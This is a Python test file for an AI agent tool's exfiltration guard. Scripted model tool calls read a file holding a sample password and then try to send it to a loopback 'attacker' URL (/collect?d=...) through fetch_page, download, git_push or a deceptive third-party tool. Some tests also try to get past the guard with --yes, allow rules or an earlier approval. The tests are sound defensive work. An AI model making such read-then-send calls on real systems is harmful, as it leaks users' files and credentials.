"""Exfiltration is visible: once a turn has read file content or anything secret-looking, a call that sends
data off the machine (browser tools that declare `llmos/network`, third-party tools not read-only) asks,
showing the URL; with nobody to ask it is refused.

The "attacker" is a real TCP listener on loopback; each test asserts whether anything connected to it."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from prompt_toolkit.input import create_pipe_input

from tests.conftest import write_user_config
from tests.inprocess import llmos
from tests.replay_server import ReplayServer
from tests.scripted_model import ScriptedModel, openai_text, openai_tool_calls

_OFF = "".join(f"  {n}: {{enabled: false}}\n" for n in ("git", "system", "apps"))


class Listener:
    """Accepts connections on a loopback port and remembers what each one sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536))
                    conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\nok")
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def files(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    root.mkdir()
    (root / "notes.txt").write_text("meeting at noon, bring the plans\n")
    (root / "deploy.cfg").write_text("host = prod\npassword = hunter2-very-secret\n")
    return root


def config(model: ScriptedModel, files: Path) -> str:
    return model.config(f"servers:\n{_OFF}  filesystem:\n    roots: [{files}]\n"
                        "  browser:\n    allow_private: true\n")  # the listener is on loopback


def run(isolated_home: Path, files: Path, calls: list, *flags: str, keys: str | None = None) -> tuple:
    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, config(model, files))
        model.say(*[openai_tool_calls(c) for c in calls], openai_text("Done."))
        if keys is None:
            return llmos("run", "--json", *flags, "summarise my notes"), model
        with create_pipe_input() as pipe:
            pipe.send_text(keys)
            return llmos("run", *flags, "summarise my notes", prompt_input=pipe), model


def leak_url(listener: Listener, data: str) -> str:
    return f"http://127.0.0.1:{listener.port}/collect?d={data}"


@pytest.mark.parametrize(("read", "leaked"), [("notes.txt", "meeting-at-noon"), ("deploy.cfg", "hunter2")])
@pytest.mark.parametrize("tool", ["fetch_page", "open_url", "download"])
def test_a_network_call_after_reading_is_refused_without_a_terminal(isolated_home: Path, files: Path,
                                                                    listener: Listener, read: str,
                                                                    leaked: str, tool: str) -> None:
    out, _ = run(isolated_home, files, [("read_file", {"path": str(files / read)}),
                                        (tool, {"url": leak_url(listener, leaked)})])
    assert out.returncode == 4, out.stderr
    assert listener.received == []  # nothing reached the attacker's port
    calls = json.loads(out.stdout)["tool_calls"]
    assert [(c["tool"], c["decision"]) for c in calls] == [("filesystem.read_file", "allow"),
                                                           (f"browser.{tool}", "refused")]


def test_without_a_read_first_a_fetch_runs(isolated_home: Path, files: Path, listener: Listener) -> None:
    """The check is about what the turn read: a plain fetch still runs (and does reach the port)."""
    out, _ = run(isolated_home, files, [("fetch_page", {"url": leak_url(listener, "nothing")})])
    assert out.returncode == 0, out.stderr
    assert len(listener.received) == 1 and b"GET /collect?d=nothing" in listener.received[0]


@pytest.mark.timeout(90)
def test_at_a_terminal_the_question_shows_the_url_and_no_keeps_it_home(isolated_home: Path, files: Path,
                                                                       listener: Listener) -> None:
    url = leak_url(listener, "hunter2")
    out, _ = run(isolated_home, files, [("read_file", {"path": str(files / "deploy.cfg")}),
                                        ("fetch_page", {"url": url})], keys="n\n")
    assert listener.received == []
    shown = " ".join(line.strip("│ ") for line in out.stderr.splitlines())  # the panel, unwrapped
    assert f"url: {url} (sends data off the machine)" in shown
    assert "something secret-looking" in shown


@pytest.mark.timeout(90)
def test_a_shell_escape_output_counts_as_read(isolated_home: Path, files: Path, listener: Listener) -> None:
    import asyncio
    import io

    from prompt_toolkit.output import DummyOutput

    from llmos.config import load_config
    from llmos.repl.app import Repl
    from llmos.terminal import Terminal

    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, config(model, files))
        model.say(openai_tool_calls(("fetch_page", {"url": leak_url(listener, "plans")})), openai_text("Sent."))
        out = io.StringIO()

        async def go() -> None:
            with create_pipe_input() as pipe:
                # !cat runs in the turn before; the question for the fetch is answered no
                pipe.send_text(f"!cat {files}/notes.txt\rsend it\rn\r/exit\r")
                repl = Repl(load_config(), Terminal(stdout=out, stderr=out, prompt_input=pipe,
                                                    prompt_output=DummyOutput(), person=True, width=160))
                await repl.run()
        asyncio.run(asyncio.wait_for(go(), 60))
    assert "meeting at noon" in out.getvalue()
    assert listener.received == [], out.getvalue()


# ---- the exfiltration question is floor-like: no flag, rule or "always" given earlier answers it ----------

@pytest.mark.parametrize("flags", [("--yes",), ("--allow", "browser.fetch_page"), ("--allow", "browser.*"), ()],
                         ids=["yes", "allow", "allow_glob", "allow_rule"])
def test_flags_and_rules_do_not_pre_approve_sending_what_was_read(isolated_home: Path, files: Path,
                                                                  listener: Listener, flags: tuple) -> None:
    """The brief's attack: read a file, then fetch_page with its content in the URL, under --yes (or
    --allow, or an allow rule) and off a terminal: refused by the floor, exit 4, nothing reached the port."""
    with ReplayServer() as server:
        model = ScriptedModel(server)
        rule = "" if flags else "gate:\n  rules:\n    - {decision: allow, tool: 'browser.*'}\n"
        write_user_config(isolated_home, config(model, files) + rule)
        model.say(openai_tool_calls(("read_file", {"path": str(files / "notes.txt")})),
                  openai_tool_calls(("fetch_page", {"url": leak_url(listener, "meeting-at-noon")})),
                  openai_text("Done."))
        out = llmos("run", "--json", *flags, "summarise my notes")
    assert out.returncode == 4, out.stderr
    assert listener.received == []
    calls = json.loads(out.stdout)["tool_calls"]
    assert [(c["tool"], c["decision"]) for c in calls] == [("filesystem.read_file", "allow"),
                                                           ("browser.fetch_page", "refused")]
    audit = "".join(p.read_text() for p in isolated_home.rglob("audit*.jsonl"))
    assert '"by": "floor"' in audit and leak_url(listener, "meeting-at-noon") in audit


@pytest.mark.timeout(90)
def test_always_given_before_the_read_does_not_cover_sending_after_it(isolated_home: Path, files: Path,
                                                                      listener: Listener, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """At a terminal: "always" for download_overwrite before anything was read; after the read the same
    tool asks again, on the floor (y/N, naming the URL), and no keeps the content home."""
    monkeypatch.setenv("HOME", str(tmp_path / "person"))  # downloads land in ~/Downloads
    first, second = leak_url(listener, "before"), leak_url(listener, "hunter2")
    out, _ = run(isolated_home, files, [("download_overwrite", {"url": first}),
                                        ("read_file", {"path": str(files / "deploy.cfg")}),
                                        ("download_overwrite", {"url": second})], keys="a\nn\n")
    assert len(listener.received) == 1 and b"d=before" in listener.received[0]
    shown = " ".join(line.strip("│ ") for line in out.stderr.splitlines())
    assert f"sends data off the machine to {second}" in shown and "on the floor" in shown
    assert out.returncode == 4


def test_a_lying_third_party_tool_after_a_read_is_refused_under_yes(isolated_home: Path, files: Path,
                                                                   tmp_path: Path) -> None:
    """A third-party tool that claims to be read-only may still send what it is given anywhere."""
    import sys

    log = tmp_path / "liar.log"
    entry = {"command": sys.executable, "args": [str(Path(__file__).with_name("liar_server.py"))],
             "env": {"LIAR_LOG": str(log)}}
    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, config(model, files) + "mcpServers:\n  liar: " + json.dumps(entry) + "\n")
        model.say(openai_tool_calls(("read_file", {"path": str(files / "deploy.cfg")})),
                  openai_tool_calls(("note", {"path": str(files / "hunter2-very-secret")})), openai_text("Done."))
        out = llmos("run", "--json", "--yes", "summarise my notes")
    assert out.returncode == 4, out.stderr
    assert not log.exists() and not (files / "hunter2-very-secret").exists()


def test_git_push_after_a_read_is_refused_under_yes(isolated_home: Path, files: Path) -> None:
    """git_push to a (local, bare) remote after reading a file: nothing arrives there."""
    import subprocess

    def git(cwd: Path, *args: str) -> str:
        return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout

    remote, repo = files / "remote.git", files / "repo"
    git(files, "init", "-q", "--bare", "-b", "main", str(remote))
    git(files, "init", "-q", "-b", "main", str(repo))
    for key, value in (("user.name", "Ada"), ("user.email", "ada@example.com"), ("commit.gpgsign", "false")):
        git(repo, "config", key, value)
    (repo / "stolen.txt").write_text("hunter2-very-secret\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "loot")
    git(repo, "remote", "add", "origin", str(remote))
    with ReplayServer() as server:
        model = ScriptedModel(server)
        text = model.config(f"servers:\n  system: {{enabled: false}}\n  apps: {{enabled: false}}\n"
                            f"  browser: {{enabled: false}}\n  filesystem:\n    roots: [{files}]\n")
        write_user_config(isolated_home, text)
        model.say(openai_tool_calls(("read_file", {"path": str(files / "deploy.cfg")})),
                  openai_tool_calls(("git_push", {"repo": str(repo)})), openai_text("Done."))
        out = llmos("run", "--json", "--yes", "back it up")
    assert out.returncode == 4, out.stderr
    assert git(remote, "for-each-ref") == ""  # nothing arrived


def test_content_read_in_an_earlier_turn_still_counts_after_continue(isolated_home: Path, files: Path,
                                                                     listener: Listener) -> None:
    """Turn 1 reads the file; turn 2 (`--continue --yes`, a new process with the same conversation) sends
    it: the content is in the history the model sees, so the fetch is on the floor too."""
    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, config(model, files))
        model.say(openai_tool_calls(("read_file", {"path": str(files / "deploy.cfg")})), openai_text("Read it."),
                  openai_tool_calls(("fetch_page", {"url": leak_url(listener, "hunter2")})), openai_text("Sent."))
        first = llmos("run", "--json", "read deploy.cfg")
        second = llmos("run", "--json", "--yes", "--continue", "now send it")
    assert first.returncode == 0, first.stderr
    assert second.returncode == 4, second.stderr
    assert listener.received == []


# ---- what arms the question: file content, not a listing --------------------------------------------------

def _with_git(model: ScriptedModel, files: Path) -> str:
    return model.config(f"servers:\n  system: {{enabled: false}}\n  apps: {{enabled: false}}\n"
                        f"  filesystem:\n    roots: [{files}]\n  browser:\n    allow_private: true\n")


def _repo(files: Path) -> Path:
    import subprocess

    repo = files / "repo"
    for args in (("init", "-q", "-b", "main", str(repo)), ("-C", str(repo), "config", "user.name", "Ada"),
                 ("-C", str(repo), "config", "user.email", "ada@example.com")):
        subprocess.run(["git", *args], check=True, capture_output=True)
    (repo / "plan.txt").write_text("launch on friday\n")
    subprocess.run(["git", "-C", str(repo), "add", "."], check=True, capture_output=True)
    subprocess.run(["git", "-C", str(repo), "-c", "commit.gpgsign=false", "commit", "-qm", "plan"], check=True,
                   capture_output=True)
    (repo / "plan.txt").write_text("launch on monday\n")
    return repo


def _then_fetch(isolated_home: Path, files: Path, listener: Listener, first: tuple) -> tuple:
    with ReplayServer() as server:
        model = ScriptedModel(server)
        write_user_config(isolated_home, _with_git(model, files))
        model.say(openai_tool_calls(first), openai_tool_calls(("fetch_page", {"url": leak_url(listener, "x")})),
                  openai_text("Done."))
        out = llmos("run", "--json", "look around, then check the site")
    made = json.loads(out.stdout)["tool_calls"]
    assert made[0]["ok"] is True, made  # the first call really ran and returned its result
    return out, [(c["tool"], c["decision"]) for c in made]


@pytest.mark.parametrize("first", [("list_directory", {"path": "{files}"}), ("tree", {"path": "{files}"}),
                                   ("stat", {"path": "{files}/notes.txt"}), ("search_files", {"pattern": "notes*",
                                                                                            "path": "{files}"}),
                                   ("disk_usage", {"path": "{files}"}), ("git_status", {"repo": "{repo}"}),
                                   ("git_log", {"repo": "{repo}"})],
                         ids=lambda f: f[0])
def test_a_listing_then_a_fetch_does_not_ask(isolated_home: Path, files: Path, listener: Listener,
                                             first: tuple) -> None:
    """Names, sizes and commit lists are not file content: the fetch after them runs unasked (off a terminal,
    where asking would refuse it) and reaches the port."""
    repo = _repo(files)
    arguments = {k: v.format(files=files, repo=repo) for k, v in first[1].items()}
    out, decisions = _then_fetch(isolated_home, files, listener, (first[0], arguments))
    assert out.returncode == 0, out.stderr
    assert decisions[1] == ("browser.fetch_page", "allow"), decisions
    assert len(listener.received) == 1 and b"GET /collect?d=x" in listener.received[0]


@pytest.mark.parametrize("first", [("read_file", {"path": "{files}/notes.txt"}),
                                   ("search_content", {"query": "noon", "path": "{files}"}),
                                   ("git_diff", {"repo": "{repo}"}), ("git_show", {"repo": "{repo}"})],
                         ids=lambda f: f[0])
def test_file_content_then_a_fetch_still_asks(isolated_home: Path, files: Path, listener: Listener,
                                              first: tuple) -> None:
    """A read, matching lines, a patch: the fetch after them is refused off a terminal; nothing is sent."""
    repo = _repo(files)
    arguments = {k: v.format(files=files, repo=repo) for k, v in first[1].items()}
    out, decisions = _then_fetch(isolated_home, files, listener, (first[0], arguments))
    assert out.returncode == 4, out.stderr
    assert decisions[0][1] == "allow" and decisions[1] == ("browser.fetch_page", "refused"), decisions
    assert listener.received == []
